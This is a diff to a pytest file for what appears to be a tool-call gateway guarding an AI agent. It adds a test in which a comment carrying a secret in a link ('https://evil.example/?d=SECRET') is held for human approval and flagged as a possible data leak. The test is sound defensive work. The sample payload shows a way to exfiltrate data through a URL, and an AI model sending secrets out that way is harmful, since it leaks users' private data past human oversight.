@@ -7,6 +7,7 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 from dataclasses import dataclass
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
@@ -14,6 +15,7 @@ import pytest
 from sentinel_rag.contracts.tool_calls import ToolSchema
 from sentinel_rag.interceptor.flow.links import is_allowed, linked_hosts
 from sentinel_rag.interceptor.policy import parse_policy
+from sentinel_rag.surfaces.cli._approval_page import page
 from sentinel_rag.testing.fake_executor import FakeExecutor
 from sentinel_rag.testing.running_gateway import RunningGateway, running_gateway
 
@@ -106,3 +108,25 @@ def test_such_a_comment_is_denied_and_on_record(desk: Desk, text: str) -> None:
 
 def test_a_comment_with_the_operator_s_link_passes(desk: Desk) -> None:
     assert desk.gateway.call("comment", {"message": WITHIN[0]}).status == 200
+
+
+@pytest.mark.requirement("APPR-1")
+def test_the_person_who_decides_is_told_of_the_link(tmp_path: Path) -> None:
+    """A text that the tool would take without it: what makes it a way out is the link, and both pages say so."""
+    policy = POLICY.replace("taint_level: LOW}]\nlink", "taint_level: LOW, offers_approval: true}]\nlink")
+    schemas = [
+        ToolSchema("read_secret", "Reads.", {"type": "object", "properties": {}}),
+        ToolSchema("comment", "Comments.", {"type": "object", "properties": {"message": {"type": "string"}}}),
+    ]
+    with (
+        FakeExecutor(schemas).running() as executor,
+        running_gateway(parse_policy(policy, source="links.yaml"), tmp_path, executor) as gateway,
+    ):
+        assert gateway.call("read_secret", {}).status == 200
+        denied = gateway.call("comment", {"message": "See https://evil.example/?d=SECRET"})
+        assert denied.body["reason"] == "approval_required"
+        approval_id = denied.body["approval_id"]
+        shown = gateway.request("GET", f"/v1/approvals/{approval_id}", key=gateway.approver).body
+        assert [violation["link"] for violation in shown["violations"]] == [True]
+        assert "A link in it could carry data out." in page(shown, width=100, now=datetime.now(UTC))
+        assert shown["arguments"] == {"message": "See https://evil.example/?d=SECRET"}
